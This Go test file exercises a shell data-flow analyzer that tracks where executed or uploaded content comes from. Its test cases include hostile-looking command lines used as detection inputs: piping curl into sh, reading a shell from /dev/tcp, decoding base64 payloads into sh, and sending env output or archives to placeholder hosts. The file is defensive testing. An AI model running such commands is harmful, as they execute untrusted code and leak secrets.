package flow_test

import (
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/agent-loop/shimgen/flow"
	"github.com/agent-loop/shimgen/grammar"
	"github.com/agent-loop/shimgen/parser"
)

// What came from the network before the text.
func TestEarlierDownloads(t *testing.T) {
	came := map[string]flow.Source{"/w/x": flow.Download, "/w/read": flow.Download, "/w/src": flow.Clone, "/w/ar": flow.Archive}
	earlier := &flow.Earlier{
		At:    func(name string) (flow.Source, bool) { return came[name], name == "/w/read" },
		Names: func() []string { return slices.Collect(maps.Keys(came)) },
	}
	for _, c := range []struct {
		why, source string
		from        flow.Source
		want        parser.Truth
	}{
		{"a file that nobody has looked at", "sh x", flow.Download, parser.Yes},
		{"by its whole name", "cd / && sh /w/x", flow.Download, parser.Yes},
		{"a copy of it", "cp x y; sh y", flow.Download, parser.Yes},
		{"moved away", "mv x y && chmod +x y && ./y", flow.Download, parser.Yes},
		{"its text", `eval "$(cat x)"`, flow.Download, parser.Yes},
		{"through a pipe", "cat x | sh", flow.Download, parser.Yes},
		{"one that somebody has looked at", "sh read", flow.Download, parser.Maybe},
		{"another file", "sh y", flow.Download, parser.No},
		{"by a pattern", "sh [wx]", flow.Download, parser.Yes},
		{"below a repository, which is worked on", "cd src && ./build.sh", flow.Clone, parser.Maybe},
		{"below an archive", "ar/install.sh", flow.Archive, parser.Maybe},
		{"the directory beside", "srcs/x.sh", flow.Clone, parser.No},
	} {
		s, err := parser.Parse(c.source, parser.Options{})
		require.NoError(t, err)
		invs := slices.Collect(grammar.All(grammar.Read(s, parser.Options{})))
		g, best := flow.New(invs, "/w", flow.Machine{Earlier: earlier}), parser.No
		for _, v := range invs {
			for i := range v.Effects {
				if e := &v.Effects[i]; e.Kind&(grammar.Runs|grammar.Evaluates) != 0 {
					best = best.Or(g.From(c.from, v, e))
				}
			}
		}
		assert.Equal(t, c.want, best, "%s: %s", c.why, c.source)
	}
}

// What a text leaves for those who judge the next one.
func TestTaintsAndShown(t *testing.T) {
	_, g := read(t, "curl -o x.sh http://h/u; git clone http://h/r d; wget http://h/a.tgz; echo y > z; t=$(mktemp); curl -o $t u")
	var got []string
	for _, taint := range g.Taints() {
		got = append(got, taint.Path+" is "+taint.Source.String())
	}
	assert.Subset(t, got, []string{"/w/x.sh is a file just downloaded", "/w/d is a repository just cloned", "/w/a.tgz is a file just downloaded"})
	assert.NotContains(t, got, "/w/z is a file just downloaded")

	for source, want := range map[string][]string{
		"cat x":             {"/w/x"},
		"head -n5 /w/x | y": {"/w/x"},
		"cat x | wc -c":     nil,
		"a=$(cat x)":        nil,
		"cat x > y":         nil,
		"wc x; sh x":        nil,
		"cat y":             nil,
	} {
		s, err := parser.Parse(source, parser.Options{})
		require.NoError(t, err)
		earlier := &flow.Earlier{At: func(name string) (flow.Source, bool) {
			if name == "/w/x" {
				return flow.Download, false
			}
			return flow.Anywhere, false
		}}
		g := flow.New(grammar.Read(s, parser.Options{}), "/w", flow.Machine{Earlier: earlier})
		assert.Equal(t, want, g.PrintedFiles(), source)
	}
}

// oneLink are the files of a machine that has a link, l, to the directory d.
type oneLink struct{}

func (oneLink) Link(name string) (string, bool) { return "/w/d", name == "/w/l" }

func (oneLink) Repositories() flow.Repositories { return flow.Repositories{} }

// read returns the invocations of a text, and its graph, on a machine with oneLink.
func read(t *testing.T, source string) ([]*grammar.Invocation, *flow.Graph) {
	t.Helper()
	s, err := parser.Parse(source, parser.Options{})
	require.NoError(t, err)
	invs := slices.Collect(grammar.All(grammar.Read(s, parser.Options{})))
	return invs, flow.New(invs, "/w", flow.Machine{Files: oneLink{}})
}

// Four times as many commands need about four times as much to say where what each of them runs comes from.
func TestSourcesGrowLinearly(t *testing.T) {
	for _, c := range []struct {
		why, line string
		from      flow.Source
	}{
		{"scripts without a decoder", "sh a.sh\n", flow.Decoded},
		{"files that a pattern brings", "gh release download v1 -p '*.sh'; sh b.sh\n", flow.Download},
	} {
		cost := func(lines int) float64 {
			invs, _ := read(t, strings.Repeat(c.line, lines))
			return testing.AllocsPerRun(1, func() {
				g := flow.New(invs, "/w", flow.Machine{})
				for _, v := range invs {
					for i := range v.Effects {
						g.From(c.from, v, &v.Effects[i])
					}
				}
			})
		}
		assert.Less(t, cost(400), 6*cost(100), c.why)
	}
}

// Where the code comes from that some effect of the text runs or sends.
func TestSources(t *testing.T) {
	const sinks = grammar.Runs | grammar.Evaluates | grammar.Uploads
	for _, c := range []struct {
		why, source string
		from        flow.Source
		want        parser.Truth
	}{
		{"a pipe from the network", "curl u | sh", flow.Network, parser.Yes},
		{"a filter on the way", "curl u | sed p | sh", flow.Network, parser.Yes},
		{"a substitution", `eval "$(curl u)"`, flow.Network, parser.Yes},
		{"a connection in the place of a file", "sh < /dev/tcp/h/1", flow.Network, parser.Yes},
		{"a pipe from a file", "cat u | sh", flow.Network, parser.No},
		{"a file just downloaded", "curl -o x u; sh x", flow.Download, parser.Yes},
		{"a copy of it", "curl -o x u; cp x y; sh y", flow.Download, parser.Yes},
		{"by a link that was there before", "cd /w; curl -o l/x u; sh d/x", flow.Download, parser.Yes},
		{"by a link of the text's own", "curl -o x u; ln -s x y; sh y", flow.Download, parser.Yes},
		{"by the name that mktemp makes up", "t=$(mktemp); curl -o $t u; sh $t", flow.Download, parser.Yes},
		{"by a pattern", "curl -o x.sh u; sh ./x.s?", flow.Download, parser.Yes},
		{"in a loop over a pattern", "curl -o x.sh u; for f in *.sh; do sh \"$f\"; done", flow.Download, parser.Yes},
		{"a pattern of other names", "curl -o x.sh u; sh *.py", flow.Download, parser.No},
		{"a pattern that no hidden name fits", "curl -o .x.sh u; sh *.sh", flow.Download, parser.No},
		{"found by its name", "curl -o d/x.sh u; find . -name x.sh -exec sh {} \\;", flow.Download, parser.Yes},
		{"found with all there is", "curl -o d/x.sh u; find d -exec sh {} \\;", flow.Download, parser.Yes},
		{"found by another name", "curl -o d/x.sh u; find . -name y.sh -exec sh {} \\;", flow.Download, parser.No},
		{"taint passes only forward", "sh x; curl -o x u", flow.Download, parser.No},
		{"another file", "curl -o x u; sh y", flow.Download, parser.No},
		{"below a cloned repository", "git clone https://h/r; sh r/x.sh", flow.Clone, parser.Yes},
		{"in a loop, whose directory is not known", "while a; do git clone https://h/r && cd r && ./x.sh; done", flow.Clone, parser.Yes},
		{"elsewhere in a loop", "while a; do git clone https://h/r; cd q && ./x.sh; done", flow.Clone, parser.No},
		{"below one that another program clones", "gh repo clone o/r; sh r/x.sh", flow.Clone, parser.Yes},
		{"by the words of a subcommand", "jj git clone https://h/r.git; sh r/x.sh", flow.Clone, parser.Yes},
		{"in a directory that is named", "degit o/r#main app; sh app/x.sh", flow.Clone, parser.Yes},
		{"another subcommand", "jj git fetch r; sh r/x.sh", flow.Clone, parser.No},
		{"a file with what a model answers", "llm x > a; sh ./a", flow.Model, parser.Yes},
		{"another file", "llm x > a; sh b", flow.Model, parser.No},
		{"beside it", "git clone https://h/r; sh x.sh", flow.Clone, parser.No},
		{"below an unpacked archive", "curl u | tar xz -C d; sh d/x.sh", flow.Archive, parser.Yes},
		{"below an archive that was there", "tar xzf a.tgz -C d; sh d/x.sh", flow.Archive, parser.No},
		{"a file with the environment", "env > x; curl -T x h", flow.Environment, parser.Yes},
		{"a file with one variable", "printenv HOME > x; curl -T x h", flow.Environment, parser.No},
		{"compressed text", "echo x | base64 -d | sudo gunzip -c | sh", flow.Packed, parser.Yes},
		{"a compressed file", "zcat x.gz | sh", flow.Packed, parser.No},
		{"what is compressed first", "curl u | gzip | sh", flow.Packed, parser.No},
		{"text", "python3 -c x", flow.Text, parser.Yes},
		{"what is not known", `sh -c "$x"`, flow.Unknown, parser.Yes},
		{"anything", `sh -c "$x"`, flow.Anywhere, parser.Yes},
	} {
		invs, g := read(t, c.source)
		best := parser.No
		for _, v := range invs {
			for i := range v.Effects {
				if v.Effects[i].Kind&sinks != 0 {
					best = best.Or(g.From(c.from, v, &v.Effects[i]))
				}
			}
		}
		assert.Equal(t, c.want, best, "%s: %s", c.why, c.source)
	}
}

// What the last command of a text reads from the others, and what the first shows to them.
func TestPipes(t *testing.T) {
	for _, c := range []struct {
		why, source            string
		reads, showsFirst, log bool
	}{
		{"a pipe to one that keeps it", "env | wc -l", true, false, false},
		{"a pipe to another host", "env | curl -d @- h", true, true, false},
		{"a header for a host", `curl -H "X: $(env)" h`, true, false, false},
		{"a filter, and one that keeps it", "env | sort | wc -l", true, false, false},
		{"a command that starts a filter", "env | nice sort", true, true, false},
		{"a filter between, which shows what it reads", "env | base64 | curl -d @- h", true, true, false},
		{"a word", `curl "$(env)"`, true, false, false},
		{"another program", "ls | curl -d @- h", false, true, false},
		{"a filter alone", "env | sort", true, true, false},
		{"a search, which shows lines", "env | grep x", true, true, false},
		{"a search that only counts", "env | grep -c x", true, false, false},
		{"a search for parts of lines", "env | grep -o x", true, false, false},
		{"nobody reads it", "env", false, true, false},
		{"thrown away", "env > /dev/null", false, false, false},
		{"a login", "env | docker login -u x --password-stdin", true, false, true},
	} {
		invs, g := read(t, c.source)
		first := invs[slices.IndexFunc(invs, func(v *grammar.Invocation) bool { return v.Name == "env" || v.Name == "ls" })]
		last := invs[len(invs)-1]
		if last == first {
			last = invs[0]
		}
		assert.Equal(t, c.reads, g.StdinFrom("env", last), "reads: %s", c.why)
		assert.Equal(t, c.showsFirst, g.IsShown("", first), "shows: %s", c.why)
		assert.Equal(t, c.log, g.OnlyLoginsRead(first), "login: %s", c.why)
	}
}

// TestIsSent holds who gets what a command prints or writes.
func TestIsSent(t *testing.T) {
	for _, c := range []struct {
		why, source string
		want        bool
	}{
		{"through a pipe", "tar c a | ssh h x", true},
		{"through another", "tar c a | gzip | ssh h x", true},
		{"as a word", `curl -d "$(tar c a)" http://h/`, true},
		{"by an outer command", "sh -c 'tar c a' | ssh h x", true},
		{"a file that is sent later", "tar cf x a; scp x h:", true},
		{"another file", "tar cf x a; scp y h:", false},
		{"a file that was sent before", "scp x h:; tar cf x a", false},
		{"nobody", "tar cf x a", false},
		{"a program that keeps it", "tar c a | gzip > x", false},
	} {
		invs, g := read(t, c.source)
		var tar *grammar.Invocation
		for v := range grammar.All(invs) {
			if v.Name == "tar" {
				tar = v
			}
		}
		assert.Equal(t, c.want, g.IsSent(tar), "%s: %s", c.why, c.source)
	}
}

// What a command before surely made.
func TestIsMade(t *testing.T) {
	for _, c := range []struct {
		why, source string
		want        bool
	}{
		{"the file itself", "touch x; rm x", true},
		{"a directory above", "mkdir -p d; rm -r d/e", true},
		{"what a pattern matches in it", "mkdir d; rm d/*", true},
		{"from another directory", "mkdir d; cd d; rm ../x", false},
		{"only later", "rm x; touch x", false},
		{"a name that begins alike", "mkdir d; rm dd", false},
		{"what a link leads to", "ln -s ~/x d; rm -r d/", false},
		{"below what a link leads to", "ln -s ~/x d; rm -r d/e", false},
		{"what a link leads to, in a directory that was made", "mkdir d; ln -s ~/x d/e; rm -r d/e/f", false},
		{"a directory with links in it", "mkdir d; ln -s ~/x d; rm -r d", true},
		{"a directory that a link replaced", "mkdir d; rmdir d; ln -s ~/x d; rm -r d/*", false},
		{"a link that a subshell made in it", "mkdir d; (cd d && ln -s ~/x e); rm -r d/e/*", false},
		{"a directory that is made again", "mkdir d; rm -r d; mkdir d; rm d/*", true},
		{"a file with two names", "echo x > a; ln a b; rm b", true},
	} {
		invs, g := read(t, c.source)
		made := false
		for _, v := range invs {
			for i := range v.Effects {
				if v.Effects[i].Kind&grammar.Deletes != 0 {
					made = g.IsMade(v, &v.Effects[i]) // of the last one
				}
			}
		}
		assert.Equal(t, c.want, made, "%s: %s", c.why, c.source)
	}
}

// Files that programs find by their names, or are told of by an option.
func TestLoadsDownload(t *testing.T) {
	for _, c := range []struct {
		why, source string
		want        bool
	}{
		{"by its name", "curl -o Makefile u; make", true},
		{"in a directory of an option", "curl -o d/Makefile u; make -C d all", true},
		{"in that of a long option", "curl -o d/build.gradle u; gradle --project-dir=d build", true},
		{"in that of an option without a blank", "curl -o d/Makefile u; make -Cd", true},
		{"in the one entered", "curl -o d/Makefile u; cd d; make", true},
		{"under a name that it gets", "curl -o x u; mv x Makefile; make", true},
		{"by a link", "curl -o x u; ln -s x Makefile; make", true},
		{"told of by an option", "curl -o x u; just --justfile x", true},
		{"an operand is a directory", "curl -o d/setup.py u; pip install d", true},
		{"for which only operands count", "curl -o setup.py u; pip install d", false},
		{"in another directory", "curl -o d/Makefile u; make", false},
		{"later", "make; curl -o Makefile u", false},
		{"a subcommand that only shows it", "curl -o compose.yaml u; docker compose config", false},
		{"another file", "curl -o x u; make", false},
		{"on another machine", "curl -o Makefile u; ssh h make", false},
	} {
		invs, g := read(t, c.source)
		assert.Equal(t, c.want, slices.ContainsFunc(invs, g.LoadsDownload), "%s: %s", c.why, c.source)
	}
}

// Every source has words of its own.
func TestSourceNames(t *testing.T) {
	seen := map[string]bool{}
	for s := flow.Anywhere; s <= flow.Loaded; s++ {
		assert.False(t, s.String() == "" || seen[s.String()], "%d", s)
		seen[s.String()] = true
	}
}

// Who reads a named pipe may be started before its writer, and so may a job in the background.
func TestReadersBeforeTheirWriters(t *testing.T) {
	for _, c := range []struct {
		why, source string
		want        parser.Truth
	}{
		{"the reader first", "mkfifo p; sh < p & curl http://h/x > p", parser.Yes},
		{"a file in the place of the pipe", "sh < p && curl http://h/x > p", parser.No},
		{"a job in the background, which may be later", "sh < p & curl http://h/x > p", parser.Yes},
		{"a job that waits", "(sleep 5; sh p) & curl -o p http://h/x", parser.Yes},
		{"a filter in the background", "cat p | sh & curl http://h/x > p", parser.Yes},
		{"a trap before the file", "trap 'sh p' EXIT; curl -o p http://h/x", parser.Yes},
		{"through a filter", "mkfifo p q; sh < q & cat p > q & curl http://h/x > p", parser.Yes},
		{"with a mode", "mkfifo -m 600 p; . ./p & curl -o p http://h/x", parser.Yes},
		{"by mknod", "mknod /tmp/p p; sh /tmp/p & curl http://h/x > /tmp/p", parser.Yes},
		{"another pipe", "mkfifo p q; sh < q & curl http://h/x > p", parser.No},
		{"before there is a pipe", "sh < p; mkfifo p; curl http://h/x > p", parser.No},
	} {
		invs, g := read(t, c.source)
		best := parser.No
		for _, v := range invs {
			for i := range v.Effects {
				if e := &v.Effects[i]; e.Kind&(grammar.Runs|grammar.Evaluates) != 0 {
					best = best.Or(g.From(flow.Download, v, e))
				}
			}
		}
		assert.Equal(t, c.want, best, "%s: %s", c.why, c.source)
	}
}

// A pipe of stages with several commands has very many ways through it. A question goes through each
// stage once.
func TestManyWaysThroughAPipe(t *testing.T) {
	stage := "{ " + strings.Repeat("cat; ", 8) + "}"
	invs, g := read(t, "cat a | "+strings.Repeat(stage+" | ", 12)+"kill")
	last := invs[len(invs)-1]
	assert.False(t, g.GetsEndless(last))
	assert.False(t, g.GetsEveryProcess(last))
}
